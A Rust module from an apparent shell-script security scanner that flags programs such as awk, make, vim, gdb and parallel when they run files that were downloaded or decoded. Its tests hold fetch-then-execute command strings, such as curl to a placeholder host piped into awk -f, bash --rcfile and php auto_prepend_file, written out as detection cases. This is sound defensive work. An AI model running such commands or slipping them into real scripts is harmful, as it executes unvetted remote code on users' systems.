//! Programs that are told to run what a file says, where that file was fetched or decoded.

use super::value::{Taint, Value};
use super::walk::Walk;
use crate::finding::Severity;
use crate::rules::shell as rules;

/// Programs, and the options whose value is a file of what they run.
const OPTIONS: &[(&str, &[&str])] = &[
    ("awk", &["-f", "--file"]),
    ("gawk", &["-f", "--file"]),
    ("mawk", &["-f"]),
    ("nawk", &["-f"]),
    ("sed", &["-f", "--file"]),
    ("gsed", &["-f", "--file"]),
    ("make", &["-f", "--file", "--makefile"]),
    ("gmake", &["-f", "--file", "--makefile"]),
    ("just", &["-f", "--justfile"]),
    ("task", &["-t", "--taskfile"]),
    ("vim", &["-S", "-u", "-s"]),
    ("nvim", &["-S", "-u", "-s", "-l"]),
    ("vi", &["-S", "-u", "-s"]),
    ("ex", &["-S", "-u"]),
    ("emacs", &["-l", "--load", "--script"]),
    ("gdb", &["-x", "-ix", "--command", "-command", "--init-command"]),
    ("lldb", &["-s", "-S", "--source"]),
    ("expect", &["-f"]),
    ("ssh", &["-F"]),
    ("tmux", &["-f", "source-file", "source"]),
    ("screen", &["-c"]),
    ("sqlite3", &["-init"]),
    ("psql", &["-f", "--file"]),
    ("lftp", &["-f"]),
    ("sftp", &["-b"]),
    ("parallel", &["-a", "--arg-file", "::::"]),
];

/// Of those, what is mostly given data: what runs other programs is rare in it.
const MOSTLY_DATA: &[&str] = &["sqlite3", "psql", "lftp", "sftp"];

impl Walk<'_> {
    /// Judges the files that `name` is told to run.
    pub(super) fn fed(&mut self, name: &str, rest: &[Value], stdin: &Value) {
        let Some((_, options)) = OPTIONS.iter().find(|(program, _)| *program == name) else { return };
        if name == "parallel" && stdin.taint.has(Taint::FETCHED) && !rest.iter().any(is_word) {
            self.tell(&rules::PIPE, "each line of what was fetched is run by parallel", None);
        }
        let mut fields = rest.iter().peekable();
        while let Some(field) = fields.next() {
            let next = fields.peek().copied();
            let text = next.map_or("", |next| next.text.as_str());
            let given = options.iter().find_map(|option| super::lends::value_of(option, &field.text, text));
            let Some(path) = given else { continue };
            let printed = next.filter(|next| next.text == path && path.starts_with("<(")).map(|next| next.taint);
            let taint = self.memory.file(&path).and(printed.unwrap_or_default());
            let severity = MOSTLY_DATA.contains(&name).then_some(Severity::Warning);
            if taint.has(Taint::FETCHED) {
                self.tell(&rules::DOWNLOAD, &format!("{name} runs what {path} says, which was fetched"), severity);
            } else if taint.has(Taint::DECODED) {
                self.tell(&rules::DECODED, &format!("{name} runs what {path} says, which was decoded"), severity);
            }
        }
    }
}

fn is_word(field: &Value) -> bool {
    !field.text.starts_with('-') && !field.text.chars().all(|c| c.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use crate::shell::Context;
    use crate::shell::tests::{is_danger, is_no_danger};

    #[test]
    fn what_programs_are_told_to_run_is_no_download() {
        let fetch = "f=/tmp/r-$(id -u)/x\ncurl -fsS -o \"$f\" https://a.invalid/x\n";
        for run in [
            "awk -f \"$f\" notes.txt",
            "make -s --file=\"$f\" all",
            "sed -f\"$f\" notes.txt",
            "just -f \"$f\" all",
            "bash --rcfile \"$f\" -i",
            "bash --init-file \"$f\" -i",
            "vim -es -S \"$f\"",
            "gdb -batch -x \"$f\"",
            "tmux source-file \"$f\"",
            "php -d auto_prepend_file=\"$f\" a.php",
            "parallel < \"$f\"",
            "parallel -a \"$f\"",
            "awk -f <(curl -s https://a.invalid/x) notes.txt",
            "load() { while [ $# -gt 0 ]; do . \"$1\"; shift; done; }\nload a.sh b.sh \"$f\"",
            "load() { until [ -z \"$1\" ]; do case $1 in -*) ;; *) . \"$1\" ;; esac; shift; done; }\nload a.sh \"$f\"",
        ] {
            is_danger(&format!("{fetch}{run}"), Context::Script);
        }
        for run in [
            "awk -f sum.awk \"$f\"",
            "sed -n 1p \"$f\"",
            "make -f build.mk F=\"$f\"",
            "psql -f \"$f\"",
            "bash --rcfile own.sh -i",
            "parallel echo < \"$f\"",
            "read() { while [ $# -gt 0 ]; do cat \"$1\"; shift; done; }\nread a.sh \"$f\"",
            "while [ $# -gt 0 ]; do case $1 in --from) from=$2; shift ;; esac; shift; done\njq . \"$f\"",
        ] {
            is_no_danger(&format!("{fetch}{run}"), Context::Script);
        }
    }
}
